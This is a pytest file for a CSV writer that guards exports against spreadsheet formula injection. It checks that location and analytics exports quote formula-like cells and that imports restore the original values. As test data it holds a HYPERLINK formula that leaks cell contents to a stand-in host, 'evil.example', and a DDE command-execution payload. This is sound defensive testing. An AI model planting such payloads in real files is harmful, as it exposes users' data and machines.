"""Every CSV Chorus writes goes through one writer that a spreadsheet cannot be tricked by:
text starting like a formula gets a leading quote; numbers stay numbers; the location import
reads its own export back unchanged."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import httpx
import pytest

from shared import csvwriter
from shared.db import Database
from shared.platforms.types import DailyMetrics
from tests.factories import create_brand, create_location, sign_up
from tests.support.metrics import store_metrics
from tests.support.social_accounts import connect

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Pizza = love", "Pizza = love"),
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        (-7, "-7"),
        (Decimal("-0.25"), "-0.25"),
        (None, ""),
        (True, "true"),
    ],
)
def test_cells_a_spreadsheet_would_run_are_quoted(value: csvwriter.Cell, written: str) -> None:
    assert csvwriter.safe_cell(value) == written
    if isinstance(value, str):
        assert csvwriter.unneutralise(written) == value


def test_rows_are_rfc_4180() -> None:
    text = csvwriter.write_rows([["a", HYPERLINK, -1], ["x,y", None, 2]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["a", "'" + HYPERLINK, "-1"],
        ["x,y", "", "2"],
    ]
    assert text.endswith("\r\n")


async def test_location_export_neutralises_formulas_and_imports_back_unchanged(
    client: httpx.AsyncClient,
) -> None:
    owner = await sign_up(client)
    brand = await create_brand(client, owner)
    location = await create_location(
        client,
        owner,
        brand["id"],
        name=HYPERLINK,
        external_ref="s1",
        phone="+1 212 555 0100",
        custom_fields={"offer": "@everyone", "delta": "-5"},
    )
    export = await client.get(f"/v1/brands/{brand['id']}/locations/export", headers=owner.headers)
    assert export.status_code == 200, export.text
    (row,) = list(csv.DictReader(io.StringIO(export.text)))
    assert row["name"] == "'" + HYPERLINK
    assert row["phone"] == "+12125550100"  # stored in E.164: a plain number runs nothing
    assert row["custom.offer"] == "'@everyone"
    assert row["custom.delta"] == "-5"

    back = await client.post(
        f"/v1/brands/{brand['id']}/locations/import",
        content=export.content,
        headers={**owner.headers, "Content-Type": "text/csv"},
    )
    assert back.status_code == 200, back.text
    assert back.json()["unchanged"] == 1, back.json()
    stored = await client.get(f"/v1/locations/{location['id']}", headers=owner.headers)
    assert stored.json()["name"] == HYPERLINK
    assert stored.json()["phone"] == "+12125550100"
    assert stored.json()["custom_fields"] == {"offer": "@everyone", "delta": "-5"}


async def test_analytics_export_neutralises_names_and_keeps_numbers(
    client: httpx.AsyncClient, app_db: Database
) -> None:
    owner = await sign_up(client)
    brand = await create_brand(client, owner)
    location = await create_location(client, owner, brand["id"], name=HYPERLINK)
    account = await connect(client, owner.headers, location["id"], "facebook")
    day = date(2026, 11, 2)
    await store_metrics(
        app_db,
        owner.agency_id,
        account["id"],
        [DailyMetrics(day=day, followers=120, impressions=0, clicks=3)],
    )
    export = await client.get(
        f"/v1/brands/{brand['id']}/analytics/export",
        params={"from": day.isoformat(), "to": day.isoformat()},
        headers=owner.headers,
    )
    assert export.status_code == 200, export.text
    (row,) = list(csv.DictReader(io.StringIO(export.text)))
    assert row["location_name"] == "'" + HYPERLINK
    assert (row["followers"], row["impressions"], row["clicks"], row["reach"]) == (
        "120",
        "0",
        "3",
        "",
    )
